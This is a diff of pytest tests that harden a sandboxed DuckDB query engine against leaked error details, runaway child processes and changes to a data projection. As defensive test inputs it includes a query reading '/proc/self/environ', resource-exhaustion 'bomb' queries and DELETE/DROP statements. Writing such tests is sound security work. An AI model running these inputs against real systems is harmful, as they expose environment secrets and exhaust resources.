+    tasks = Path("/proc/self/task").iterdir()
+    return {int(child) for task in tasks for child in (task / "children").read_text().split()}
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "SELECT CAST(profile AS INTEGER) FROM load_profiles",
+        "SELECT error(profile) FROM load_profiles",
+        "SELECT profil FROM load_profiles",
+        "SELECT * FROM read_text('/proc/self/environ')",
+    ],
+)
+async def test_the_engines_errors_carry_no_value_and_no_name(
+    queries: DuckdbQueries, projection: Path, statement: str
+) -> None:
+    seen = await _seen(queries, projection, statement)
+    assert seen == "failed: The query could not be answered by the engine. The provider's log says more."
+
+
+CROSS_JOIN = ", ".join(f"load_profiles {alias}" for alias in "abcd")
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        "SELECT length(repeat('x', 2000000000))",
+        "SELECT length(repeat(repeat('x', 100000), 100000))",
+        "SELECT list_sum(range(2000000000))",
+        f"SELECT sum(a.load_kw * b.load_kw * c.load_kw * d.load_kw) FROM {CROSS_JOIN}",
+        f"SELECT a.profile FROM {CROSS_JOIN}",
+    ],
+)
+async def test_a_bomb_ends_its_child_and_the_next_query_is_answered(
+    queries: DuckdbQueries, projection: Path, bomb: str
+) -> None:
+    loop = asyncio.get_running_loop()
+    started = loop.time()
+    seen = await _seen(queries, projection, bomb, seconds=4.0)
+    assert seen == "timeout" or seen.startswith("failed: The query")
+    assert SECRET not in seen
+    assert loop.time() - started < 8.0
+    assert await _seen(queries, projection, "SELECT count(*) AS n FROM load_profiles") == "[{'n': 900}]"
+
+
+async def test_no_child_outlives_its_query_or_its_engine(sandbox: Sandbox, projection: Path) -> None:
+    before = _children()
+    queries = DuckdbQueries(sandbox)
+    for statement in ("SELECT 1", "SELECT length(repeat('x', 2000000000))", "nonsense"):
+        await _seen(queries, projection, statement, seconds=2.0)
+    assert len(_children() - before) <= 1
+    await queries.aclose()
+    assert _children() == before
+
+
+async def test_a_query_that_is_cancelled_takes_its_child_along(sandbox: Sandbox, projection: Path) -> None:
+    before = _children()
+    queries = DuckdbQueries(sandbox, warm=0)
+    bomb = f"SELECT sum(a.load_kw + b.load_kw + c.load_kw + d.load_kw) FROM {CROSS_JOIN}"
+    task = asyncio.create_task(_seen(queries, projection, bomb))
+    await asyncio.sleep(2.0)
+    task.cancel()
+    with pytest.raises(asyncio.CancelledError):
+        await task
+    await queries.aclose()
+    assert _children() == before
+
+
+async def test_the_projection_stays_as_it_is(queries: DuckdbQueries, projection: Path) -> None:
+    before = hashlib.sha256(projection.read_bytes()).digest()  # noqa: ASYNC240 - a small file of the test's
+    for statement in (
+        "DELETE FROM load_profiles",
+        "UPDATE load_profiles SET load_kw = 0",
+        "DROP VIEW load_profiles",
+    ):
+        assert (await _seen(queries, projection, statement)).startswith("failed")
+    assert hashlib.sha256(projection.read_bytes()).digest() == before  # noqa: ASYNC240 - as above
